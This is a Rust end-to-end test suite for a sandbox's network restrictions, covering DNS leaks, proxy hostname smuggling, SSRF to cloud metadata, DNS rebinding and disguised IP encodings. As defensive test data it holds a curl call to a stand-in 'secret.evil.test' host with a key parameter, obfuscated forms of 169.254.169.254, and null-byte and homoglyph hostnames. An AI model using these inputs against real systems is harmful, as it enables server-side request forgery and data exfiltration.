//! Attack group NW: names. Which ones leave the machine, which are the same, and where they may lead.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};
use whatif_e2e::outside::{Answer, METADATA, METADATA_V6, Outside, PRIVATE, PUBLIC, PUBLIC_2};
use whatif_e2e::{World, eventually, needs, outside_as_root_and_user};

outside_as_root_and_user!(
    names_that_are_denied_never_leave,
    names_that_are_allowed_are_only_asked_for_by_address,
    what_does_not_exist_does_not_exist_inside,
    names_are_read_in_one_way_only,
    names_in_other_scripts_are_not_their_look_alikes,
    names_are_read_by_the_proxy_as_strictly,
    a_name_does_not_lead_to_what_is_private,
    a_name_that_changes_its_mind_is_not_followed,
    an_address_in_disguise_is_seen_through,
    a_real_name_server_sees_allowed_names_only,
);

/// Sends raw questions. `ask` returns the code and the number of answers, or nothing.
const QUESTIONS: &str = r#"
import struct
def packet(labels, kind, flags=0x0100):
    name = b''.join(bytes([len(l)]) + l for l in labels) + b'\0'
    return struct.pack('>HHHHHH', 0x4711, flags, 1, 0, 0, 0) + name + struct.pack('>HH', kind, 1)
def ask(server, labels, kind, tcp=False, port=53):
    family = socket.AF_INET6 if ':' in server else socket.AF_INET
    question = packet(labels, kind)
    try:
        with socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
            s.settimeout(5 if port == 53 else 0.3)
            s.connect((server, port))
            s.send(struct.pack('>H', len(question)) + question if tcp else question)
            reply = s.recv(4096)[2 if tcp else 0:]
            return [reply[3] & 15, struct.unpack('>H', reply[6:8])[0], reply[-4:].hex()] if len(reply) > 11 else None
    except OSError: return None
def name(text): return [l.encode() for l in text.split('.')]
"#;

/// NW-03: not by any kind of question, to any server, over any transport, by any program.
fn names_that_are_denied_never_leave(w: &World, o: &Outside) {
    o.name("secret.evil.test", &[PUBLIC]);
    let mdns = o.udp("0.0.0.0", 5353);
    let program = format!(
        r#"{QUESTIONS}
for server in ('127.0.0.53', '127.0.0.1', '1.1.1.1', '{PUBLIC}', '10.1.2.3', '2d00::5', '::1'):
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 43, 65, 255):
        ask(server, name('secret.evil.test'), kind)
    for kind in (1, 16): ask(server, name('secret.evil.test'), kind, tcp=True)
for server in ('224.0.0.251', 'ff02::fb', '{PUBLIC}'): ask(server, name('secret.evil.test'), 1, port=5353)
os.system('getent ahosts secret.evil.test; timeout 2 ping -c1 -W1 secret.evil.test; curl -s -m 3 https://secret.evil.test/?key=1')
for resolve in (lambda: socket.gethostbyname('secret.evil.test'), lambda: socket.gethostbyaddr('{PUBLIC}')):
    try: resolve()
    except OSError: pass
show([hello('secret.evil.test', 80)['got'][:12], ask('127.0.0.53', name('secret.evil.test'), 1)])
"#
    );
    for flags in [&["--net", "allow=shop.test"][..], &["--net", "none"], &[]] {
        let call = o.call_inside(w, flags, &program);
        let outcome = o.nothing_leaves("a denied name", || call.go().ok());
        let last: Value = serde_json::from_str(outcome.text().lines().last().unwrap_or_default()).expect("its last line is JSON");
        assert_eq!(last[0], "");
    }
    assert_eq!(o.asked(), Vec::<String>::new());
    assert_eq!(mdns.connections(), 0);
}

/// NW-03: text records carry far more than an address does.
fn names_that_are_allowed_are_only_asked_for_by_address(w: &World, o: &Outside) {
    o.name("a.shop.test", &[PUBLIC]);
    let program = format!(
        r#"{QUESTIONS}
out = [ask('127.0.0.53', name('a.shop.test'), kind) for kind in (1, 28, 16, 10, 15, 255)]
show([out, ask('127.0.0.53', name('a.shop.test'), 1, tcp=True)])
"#
    );
    let answers = o.try_inside(w, &["--net", "allow=*.shop.test"], &program);
    assert_eq!(answers[0][0][1], 1, "there is one address: {answers}");
    assert_eq!(answers[1][1], 1, "over TCP as well: {answers}");
    for other in answers[0].as_array().expect("a list").iter().skip(1) {
        assert_eq!(other[1], 0, "nothing else: {answers}");
    }
    let left = o.asked();
    assert!(left.iter().all(|q| q == "A a.shop.test" || q == "AAAA a.shop.test"), "{left:?}");
}

/// Programs rely on it: search lists, optional mirrors, servers without IPv6.
fn what_does_not_exist_does_not_exist_inside(w: &World, o: &Outside) {
    o.name("four.shop.test", &[PUBLIC]);
    o.name("six.shop.test", &["2d00::5"]);
    let program = r#"
def kinds(host):
    try: return sorted({f.name for f, *_ in socket.getaddrinfo(host, 80)})
    except socket.gaierror as e: return e.errno == socket.EAI_NONAME
show([kinds(h) for h in ('four.shop.test', 'six.shop.test', 'none.shop.test')])
"#;
    let found = o.try_inside(w, &["--net", "allow=*.shop.test"], program);
    assert_eq!(found, json!([["AF_INET"], ["AF_INET6"], true]));
}

/// NW-05, by DNS: bytes that are no part of a name, before and after what is allowed.
fn names_are_read_in_one_way_only(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    let server = o.http(PUBLIC, 80);
    let program = format!(
        r#"{QUESTIONS}
odd = [[b'evil\0', b'shop', b'test'], [b'evil.test\0', b'shop', b'test'], [b'evil', b'test\0.shop.test'], [b'evil\r\n', b'shop', b'test'],
       [b'evil ', b'shop', b'test'], [b'ev%69l', b'shop', b'test'], [b'evil\\', b'shop', b'test'], [b'\xd0\xb5vil', b'shop', b'test'],
       [b'evil/', b'shop', b'test'], [b'evil@', b'shop', b'test'], [b'evil:80', b'shop', b'test'], [b'evil#', b'shop', b'test'],
       [b'shop.test', b''], [b'evil', b'test', b'\x1b[2Jshop', b'test'], [b'e' * 63] * 4 + [b'shop', b'test']]
answers = [ask('127.0.0.53', labels, kind) for labels in odd for kind in (1, 28)]
mixed = ask('127.0.0.53', [b'ShOp', b'TeSt'], 1)
show([[a for a in answers if a and a[1]], mixed[1], hello('SHOP.Test', 80, named='SHOP.TEST'), hello('shop.test.', 80, named='shop.test.')])
"#
    );
    let result = o.try_inside(w, &["--net", "allow=shop.test,*.shop.test"], &program);
    assert_eq!(result[0], json!([]), "a name that is none has an address");
    assert_eq!(result[1], 1);
    assert!(Answer(result[2].clone()).is_hello() && Answer(result[3].clone()).is_hello(), "{result}");
    assert_eq!(server.connections(), 2);
    let left = o.asked();
    assert!(left.iter().all(|q| q.ends_with(" shop.test")), "{left:?}");
}

/// NW-05: a letter of another script is another name, which has to be written out.
fn names_in_other_scripts_are_not_their_look_alikes(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    o.name("xn--shp-fed.test", &[PUBLIC_2]);
    let server = o.http(PUBLIC_2, 80);
    let program = r"
def attempt(host):
    try: return hello(host, 80, named='shop.test')['got'][:12]
    except UnicodeError: return ''
show([attempt(h) for h in ('sh\u043ep.test', 'shop\u3002test', '\uff53hop.test', 'xn--shp-fed.test', 'shop\u200b.test')])
";
    let answers = o.try_inside(w, &["--net", "allow=shop.test"], program);
    assert!(answers.as_array().expect("a list").iter().all(|a| a != "HTTP/1.1 200"), "{answers}");
    assert_eq!(server.connections(), 0);
    assert!(!o.was_asked("xn--"));
}

/// Python with ways to the proxy whose address is in the environment.
const PROXY: &str = r#"
import struct, urllib.parse
proxy = urllib.parse.urlsplit(os.environ['HTTP_PROXY'])
def by_proxy(data, **more): return talk(proxy.hostname, proxy.port, data, **more)['got']
def connect(target, then=b'GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n'):
    try:
        with socket.create_connection((proxy.hostname, proxy.port), 10) as s:
            s.sendall(b'CONNECT ' + target + b' HTTP/1.1\r\nHost: ' + target + b'\r\n\r\n')
            head = s.recv(4096)
            if b' 200 ' not in head.split(b'\r\n')[0]: return head[:12].decode('latin-1')
            s.sendall(then)
            return s.recv(4096)[-6:].decode('latin-1')
    except OSError as e: return type(e).__name__
def socks(kind, host, port=80, then=b'GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n'):
    try:
        with socket.create_connection((proxy.hostname, proxy.port), 10) as s:
            s.sendall(b'\x05\x01\x00')
            if s.recv(2) != b'\x05\x00': return 'refused'
            s.sendall(b'\x05\x01\x00' + bytes([kind]) + host + struct.pack('>H', port))
            reply = s.recv(10)
            if len(reply) < 2 or reply[1]: return 'refused'
            s.sendall(then)
            return s.recv(4096)[-6:].decode('latin-1')
    except OSError as e: return type(e).__name__
def socks_name(name, **more): return socks(3, bytes([len(name) & 255]) + name, **more)
"#;

/// NW-05, NW-06, by SOCKS, CONNECT and absolute URIs: the same names, the same decisions.
fn names_are_read_by_the_proxy_as_strictly(w: &World, o: &Outside) {
    o.name("shop.test", &[PUBLIC]);
    o.name("evil.test", &[PUBLIC_2]);
    let (good, evil) = (o.http(PUBLIC, 80), o.http(PUBLIC_2, 80));
    let program = format!(
        r#"{PROXY}
names = [b'evil.test', b'evil.test\0.shop.test', b'evil.test\0shop.test', b'shop.test\0', b'evil.test\r\n.shop.test', b'evil.test .shop.test', b'evil.test%00.shop.test',
         b'evil.test#.shop.test', b'evil.test/.shop.test', b'evil.test?shop.test', b'shop.test@evil.test', b'shop.test:80@evil.test', b'//evil.test',
         b'evil.test\\.shop.test', b'sh\xd0\xbep.test', b'shop.test.evil.test', b'notshop.test', b'.shop.test', b'shop..test', b'a' * 255, b'']
bad = [socks_name(n) for n in names]
bad += [connect(n + b':80') for n in names if b'\r' not in n]
bad += [by_proxy(b'GET http://' + n + b'/ HTTP/1.1\r\nHost: ' + n + b'\r\n\r\n')[:12] for n in names if b'\r' not in n and b'/' not in n and b'?' not in n]
good = [socks_name(b'shop.test'), socks_name(b'SHOP.TEST.'), connect(b'shop.test:80'), connect(b'Shop.Test.:80'),
        by_proxy(b'GET http://shop.test/ HTTP/1.1\r\nHost: shop.test\r\n\r\n')[-6:]]
show([[b for b in bad if 'HELLO' in b or ' 200' in b], good])
"#
    );
    let result = o.try_inside(w, &["--net", "allow=shop.test"], &program);
    assert_eq!(result[0], json!([]));
    assert_eq!(result[1], json!(vec!["HELLO\n"; 5]));
    assert_eq!((good.connections(), evil.connections()), (5, 0));
    let left = o.asked();
    assert!(left.iter().all(|q| q.ends_with(" shop.test")), "{left:?}");
}

/// NW-07: whoever owns a name decides where it leads, so a rule for a name is never one for what is private.
fn a_name_does_not_lead_to_what_is_private(w: &World, o: &Outside) {
    let mapped = "::ffff:10.1.2.3";
    let places = [
        METADATA,
        METADATA_V6,
        PRIVATE,
        "127.0.0.1",
        "::1",
        "192.168.7.7",
        "100.100.100.200",
        mapped,
        "64:ff9b::a9fe:a9fe",
        "0.0.0.0",
    ];
    let servers = places.iter().filter(|p| !p.contains("ffff") && **p != "0.0.0.0").map(|p| o.http(p, 80)).collect::<Vec<_>>();
    let names: Vec<String> = (0..places.len()).map(|n| format!("n{n}.shop.test")).collect();
    places.iter().zip(&names).for_each(|(place, name)| o.name(name, &[place]));
    o.name("metadata.google.internal", &[METADATA]);
    let before = o.witness();
    let program = format!(
        "{PROXY}\nshow([[hello(n, 80)['got'][:12], connect(n.encode() + b':80')[:12], socks_name(n.encode())] \
         for n in {names:?} + ['metadata.google.internal']])"
    );
    let answers = o.try_inside(w, &["--net", "allow=*.shop.test,metadata.google.internal"], &program);
    for (answer, place) in answers.as_array().expect("a list").iter().zip(places) {
        assert!(!answer.to_string().contains("200") && !answer.to_string().contains("HELLO"), "{place}: {answer}");
    }
    assert!(servers.iter().all(|server| server.connections() == 0));
    assert_eq!(o.witness().tcp_opened, before.tcp_opened, "not even tried");
}

/// NW-07: what was checked is what is dialled, however often the name server is asked.
fn a_name_that_changes_its_mind_is_not_followed(w: &World, o: &Outside) {
    let (public, private) = (o.http(PUBLIC, 80), o.http(METADATA, 80));
    o.changing_name("rebind.test", &[&[PUBLIC], &[METADATA]]);
    o.changing_name("later.test", &[&[PUBLIC], &[PUBLIC], &[PRIVATE]]);
    o.name("both.test", &[METADATA, PUBLIC]);
    let hidden = o.http(PRIVATE, 80);
    let program = "show([[hello(n, 80)['got'][:12] for _ in range(6)] for n in ('rebind.test', 'later.test', 'both.test')])";
    let answers = o.try_inside(w, &["--net", "allow=rebind.test,later.test,both.test"], program);
    assert_eq!((private.connections(), hidden.connections()), (0, 0), "{answers}");
    let public_answers = answers.to_string().matches("HTTP/1.1 200").count();
    assert_eq!(public.connections(), public_answers, "{answers}");
}

/// NW-07: however an address is written.
fn an_address_in_disguise_is_seen_through(w: &World, o: &Outside) {
    let places = [METADATA, METADATA_V6, "127.0.0.1", "::1", "100.100.100.200", "64:ff9b::a9fe:a9fe", PRIVATE];
    let servers = places.map(|place| o.http(place, 80));
    let program = format!(
        r#"{PROXY}
written = ['169.254.169.254', '2852039166', '0xA9FEA9FE', '0xa9.0xfe.0xa9.0xfe', '0251.0376.0251.0376', '169.254.43518', '169.16689662',
           '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', '::169.254.169.254', '64:ff9b::a9fe:a9fe', 'fd00:ec2::254', '0.0.0.0', '0', '::', '127.1', '0x7f.1',
           '2130706433', '::1', '::ffff:127.0.0.1', 'localhost', 'localhost.', '100.100.100.200', '10.1.2.3', '169.254.169.254.', '169.254.169.254.nip.io']
def forms(text):
    brackets = f'[{{text}}]' if ':' in text else text
    yield hello(text, 80, seconds=5)['got']
    yield connect(f'{{brackets}}:80'.encode())
    yield socks_name(text.encode())
    yield by_proxy(f'GET http://{{brackets}}/ HTTP/1.1\r\nHost: {{brackets}}\r\n\r\n'.encode())
    try: yield socks(4 if ':' in text else 1, socket.inet_pton(socket.AF_INET6 if ':' in text else socket.AF_INET, text))
    except OSError: pass
show([[text, got] for text in written for got in forms(text) if 'HELLO' in got or ' 200' in got])
"#
    );
    let before = o.witness();
    for flags in ["allow=*.test", "allow=0.0.0.0/0,::/0"] {
        assert_eq!(o.try_inside(w, &["--net", flags], &program), json!([]), "{flags}");
    }
    assert_eq!(servers.map(|server| server.connections()), [0; 7]);
    assert_eq!(o.witness().tcp_opened, before.tcp_opened, "not even tried");
}

/// With a name server as people have it.
fn a_real_name_server_sees_allowed_names_only(w: &World, o: &Outside) {
    needs!(w, "dnsmasq");
    let (log, server) = (w.dir.join("dnsmasq.log"), o.http(PUBLIC, 80));
    let addresses =
        [("shop.test", PUBLIC), ("evil.test", PUBLIC), ("inner.test", PRIVATE)].map(|(n, a)| format!("--address=/{n}/{a}"));
    let mut dnsmasq = Command::new("dnsmasq");
    dnsmasq.args([
        "--keep-in-foreground",
        "--no-resolv",
        "--no-hosts",
        "--listen-address=127.0.0.99",
        "--bind-interfaces",
        "--user=root",
    ]);
    dnsmasq
        .args(["--conf-file=/dev/null", "--log-queries", "--pid-file="])
        .arg(format!("--log-facility={}", log.display()))
        .args(addresses);
    let mut running = dnsmasq.spawn().expect("it is installed");
    eventually("it answers", || std::net::UdpSocket::bind("127.0.0.99:53").is_err());
    o.use_name_server("127.0.0.99");
    let program = "show([hello(n, 80)['got'][-6:] for n in ('shop.test', 'evil.test', 'inner.test', 'a.shop.test')])";
    let answers = o.try_inside(w, &["--net", "allow=shop.test,inner.test"], program);
    let left = fs::read_to_string(&log).unwrap_or_default();
    running.kill().and_then(|()| running.wait()).expect("it is our child");
    assert_eq!(answers[0], "HELLO\n");
    assert!(answers.as_array().expect("a list").iter().skip(1).all(|a| a != "HELLO\n"), "{answers}");
    assert_eq!(server.connections(), 1);
    assert!(left.contains("query[A] shop.test") && !left.contains("evil") && !left.contains("a.shop"), "{left}");
}
